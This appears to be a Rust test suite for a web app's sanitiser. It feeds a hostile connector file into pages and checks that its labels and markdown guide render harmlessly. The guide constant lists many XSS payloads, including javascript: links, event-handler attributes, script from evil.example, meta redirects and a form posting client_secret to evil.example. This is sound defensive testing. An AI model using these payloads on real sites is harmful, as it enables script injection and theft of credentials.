//! A connector file that was written to harm: its texts and its guide hold script, links that run, frames, styles and
//! forms. Whoever writes connector files is trusted with where secrets go, and all the same not with the page.

use std::collections::BTreeSet;

use super::script::{PAYLOADS, harmless};
use crate::support::server::{Browser, Setup, credential_in, good_values, replaced};

/// What guides may be made of.
const TAGS: [&str; 23] = [
    "h1",
    "h2",
    "h3",
    "h4",
    "p",
    "a",
    "b",
    "i",
    "strong",
    "em",
    "ul",
    "ol",
    "li",
    "code",
    "pre",
    "blockquote",
    "hr",
    "br",
    "table",
    "details",
    "summary",
    "span",
    "div",
];

/// What must not come through a guide, between words that do.
const GUIDE: &str = r#"
## Guide begins

[plain](https://good.example/a) <https://good.example/b>

[js](javascript:pwned()) [JS](JaVaScRiPt:pwned()) [tab](java&#9;script:pwned()) [nl](java
script:pwned()) [entity](&#106;avascript:pwned()) [vb](vbscript:pwned()) [data](data:text/html,<script>pwned()</script>)
<javascript:pwned()> [x](<javascript:pwned()>) ![i](javascript:pwned()) ![i](https://evil.example/i.png)
[ref][1] [quote](https://good.example/"onmouseover="pwned()) [t](https://good.example "a\" onclick=\"pwned()")

[1]: javascript:pwned()

<script>pwned()</script><script src=//evil.example/x.js></script><SCRIPT/x>pwned()</SCRIPT>
<img src=x onerror=pwned()><svg onload=pwned()><script>pwned()</script></svg><math><mi xlink:href="javascript:pwned()">x</mi></math>
<a href="javascript:pwned()">a</a><a href=" javascript:pwned()">a</a><a href="x" onclick="pwned()" style="position:fixed" target=_self>a</a>
<iframe src="javascript:pwned()"></iframe><iframe srcdoc="<script>pwned()</script>"></iframe><object data="data:text/html,x"></object>
<embed src="data:text/html,x"><link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style><style>@import '//evil.example'
</style><base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">
<form action="//evil.example" method=post><input name=client_secret><button formaction="javascript:pwned()">Save</button></form>
<textarea></textarea><select></select><video src=x onerror=pwned()></video><audio src=x></audio><template><script>pwned()</script></template>
<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript><xmp><script>pwned()</script></xmp><dialog open>x</dialog>
<div id="save" class="overlay" onpointerenter=pwned() data-field hidden>a div</div></div></div></section></dialog><plaintext>

<b>Guide ends</b>
"#;

/// The connector of the sandbox's service under another id, with these texts in every place that has one.
fn connector(payload: &str) -> String {
    let text = include_str!("../../../connectors/talkdesk.toml").replace("id = \"talkdesk\"", "id = \"evil\"");
    let mut numbered = 0;
    let lines = text.replace("talkdesk.md", "evil.md");
    let lines = lines.lines().map(|line| match line.split_once(" = ") {
        Some((key @ ("name" | "summary" | "section" | "label" | "help" | "example"), _)) => {
            numbered += 1;
            format!("{key} = {:?}", format!("{numbered} {payload}"))
        }
        Some(("badge", _)) => "badge = \"<b\"".to_owned(),
        _ => line.to_owned(),
    });
    let text = lines.collect::<Vec<_>>().join("\n");
    assert!(numbered > 25, "{text}");
    text
}

/// A Keytile that knows the connector.
fn setup(payload: &str) -> Setup {
    let setup = Setup::sandbox();
    let folder = setup.folder.path().join("connectors");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("evil.toml"), connector(payload)).unwrap();
    std::fs::write(folder.join("evil.md"), GUIDE).unwrap();
    setup.with(format!("--connectors={}", folder.display()))
}

/// Every page that says something of the connector, after a credential and a source of it were made.
async fn pages(ana: &mut Browser) -> Vec<String> {
    let overlay = "/sources/new/evil/credentials/new";
    let draft = ana.get(overlay).await.value("draft");
    let saved = ana.post(overlay, &good_values("Good", &draft)).await;
    assert_eq!(saved.status, 303, "{}", saved.text);
    let credential = credential_in(&saved.location.unwrap());
    let configure = format!("/sources/new/evil/configure?credential={credential}");
    let form = ana.get(&configure).await.value("form");
    let typed = [("form", form.as_str()), ("name", "Agents"), ("method", "GET"), ("path", "/account"), ("action", "create")];
    let created = ana.post(&configure, &typed).await;
    assert_eq!(created.status, 303, "{}", created.text);
    let source = created.location.unwrap().split('?').next().unwrap().to_owned();
    let mut pages: Vec<String> =
        ["/", "/connectors", "/sources", "/sources/new", "/destinations/new", "/credentials", "/settings/keys/new", "/audit"]
            .map(str::to_owned)
            .into();
    pages.extend([
        overlay.to_owned(),
        "/destinations/new/evil/credentials/new".to_owned(),
        "/sources/new/evil/authenticate".to_owned(),
        format!("/credentials/{credential}"),
        format!("/credentials/{credential}/sharing"),
        format!("/credentials/{credential}/delete"),
        configure,
        source.clone(),
        format!("{source}/delete"),
    ]);
    pages
}

#[tokio::test]
async fn texts_of_a_connector_file_are_text_on_every_page() {
    for payload in PAYLOADS {
        let server = setup(payload).start().await;
        let mut ana = server.browser();
        let mut shown = 0;
        for path in pages(&mut ana).await {
            let page = ana.get(&path).await;
            assert_eq!(page.status, 200, "{path}");
            // The guide is markup, and is looked at below.
            harmless(&page, &path);
            assert!(!page.text.contains("<b</"), "{path}: a badge that opens an element");
            shown += usize::from(page.text.contains("pwned()"));
        }
        assert!(shown >= 9, "only {shown} pages show what the connector says");
        // Errors name fields by their labels: those of the form, and those of a service that refuses.
        let overlay = "/sources/new/evil/credentials/new";
        for (field, value) in
            [("client_id", ""), ("client_secret", "wrong"), ("account_name", "a b"), ("account_name", "down"), ("region", "x")]
        {
            let draft = ana.get(overlay).await.value("draft");
            let values = replaced(good_values("Again", &draft), &[(field, value)]);
            let again = ana.post(overlay, &values).await;
            assert_eq!(again.status, 422, "{field}");
            assert!(again.text.contains("pwned()"), "{field}");
            harmless(&again, field);
            let draft = ana.get(overlay).await.value("draft");
            let lines = ana.form(overlay, &replaced(good_values("Again", &draft), &[(field, value)]));
            let lines = ana.send(lines.header("Accept", "application/x-ndjson")).await;
            let last: serde_json::Value = serde_json::from_str(lines.text.lines().last().unwrap()).unwrap();
            let html = last["html"].as_str().unwrap();
            assert!(html.contains("pwned()") && !html.contains("<script>pwned") && !html.contains("<img src=q"), "{field}: {html}");
        }
        server.stop().await;
    }
}

#[tokio::test]
async fn a_guide_is_made_of_what_a_guide_needs_and_of_nothing_else() {
    let server = setup("plain").start().await;
    let mut ana = server.browser();
    for kind in ["sources", "destinations"] {
        let page = ana.get(&format!("/{kind}/new/evil/credentials/new")).await;
        let guide = page.text.split_once("<div class=\"guide\">").unwrap().1;
        let guide = guide.split_once("<section aria-labelledby=\"on-save-title\">").unwrap().0;
        assert!(
            guide.contains("Guide begins") && guide.contains("Guide ends") && guide.contains("https://good.example/a"),
            "{guide}"
        );
        let mut tags = BTreeSet::new();
        for tag in guide.split('<').skip(1).map(|part| part.split('>').next().unwrap()) {
            let (name, attributes) = tag.split_once([' ', '\n']).unwrap_or((tag, ""));
            let name = name.trim_start_matches('/');
            assert!(TAGS.contains(&name), "<{tag}> in {guide}");
            tags.insert(name.to_owned());
            // What the sanitiser writes is `name="value"`, with no quotation mark in the value.
            for (index, piece) in attributes.split('"').enumerate() {
                let before = attributes.split('"').nth(index.saturating_sub(1)).unwrap_or_default().trim();
                if index % 2 == 0 {
                    let attribute = piece.trim().trim_end_matches('=');
                    assert!(["", "href", "rel", "title"].contains(&attribute), "{attribute} of <{tag}> in {guide}");
                } else if before == "href=" {
                    // As a browser reads it: what is no address of its own leads to a page of Keytile.
                    let to =
                        url::Url::parse("https://keytile.example/sources").unwrap().join(&piece.replace("&amp;", "&")).unwrap();
                    let host = to.host_str().unwrap();
                    assert!(to.scheme() == "https" && ["good.example", "keytile.example"].contains(&host), "{piece} in {guide}");
                }
            }
        }
        assert!(tags.contains("a") && tags.contains("h2"), "{tags:?}");
        // The page goes on behind the guide: nothing of it closed what is around.
        page.says("What happens on Save");
        assert_eq!(page.text.matches("</dialog>").count(), 1, "{}", page.text);
        assert_eq!(page.text.matches("name=\"client_secret\"").count(), 1);
    }
    server.stop().await;
}
